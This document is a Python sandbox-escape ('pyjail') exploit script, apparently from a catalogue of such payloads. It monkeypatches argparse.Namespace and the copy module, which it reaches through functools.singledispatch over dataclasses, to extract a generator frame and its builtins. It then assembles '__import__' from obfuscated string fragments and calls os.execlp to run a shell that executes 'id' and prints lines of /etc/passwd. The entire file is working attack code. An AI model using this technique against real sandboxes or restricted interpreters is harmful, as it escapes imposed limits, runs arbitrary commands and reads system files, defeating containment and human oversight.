# source: argparse _AppendAction (getattr(namespace, dest) then copy.copy via `import copy`), pyjail "monkeypatch a library global" trick; module globals patched through Class.method(self=module) (keyword self) and through the copy module reached by functools.singledispatch(dataclasses)
# family: library callbacks - argparse namespace factory swapped (argparse.Namespace) so parse_args reads an attribute named by a literal option of a foreign object (generator, frame); copy.copy replaced by a spy that receives it
# goal: generator frame, then f_builtins -> __import__ -> os.execlp (id, /etc/passwd)
import argparse
import functools
import dataclasses

class Patch:
    def __init__(self):
        self.Namespace = None

    def set_factory(self, factory):
        old = self.Namespace
        self.Namespace = factory
        return old

seen = []
copy_mod = functools.singledispatch(dataclasses).copy
real_copy = copy_mod.copy

def grab(obj):
    seen.append(obj)
    return []

gp = argparse.ArgumentParser()
gp.add_argument("--gi-frame", action="append")
fp = argparse.ArgumentParser()
fp.add_argument("--f-builtins", action="append")

def read(obj, p, option):
    # argparse's append action reads getattr(namespace, dest) and copies it
    old_ns = Patch.set_factory(self=argparse, factory=lambda: obj)
    copy_mod.copy = grab
    try:
        p.parse_args([option, "x"])
    except Exception:
        pass
    copy_mod.copy = real_copy
    Patch.set_factory(self=argparse, factory=old_ns)
    return seen[-1]

def gen():
    yield 1

frame = read(gen(), gp, "--gi-frame")
print(frame, flush=True)
b = read(frame, fp, "--f-builtins")
u = chr(95)
o = b[u + u + "imp" + "ort" + u + u]("o" + "s")
print(o, flush=True)
o.execlp("sh", "sh", "-c", "id; head -2 /etc/passwd")
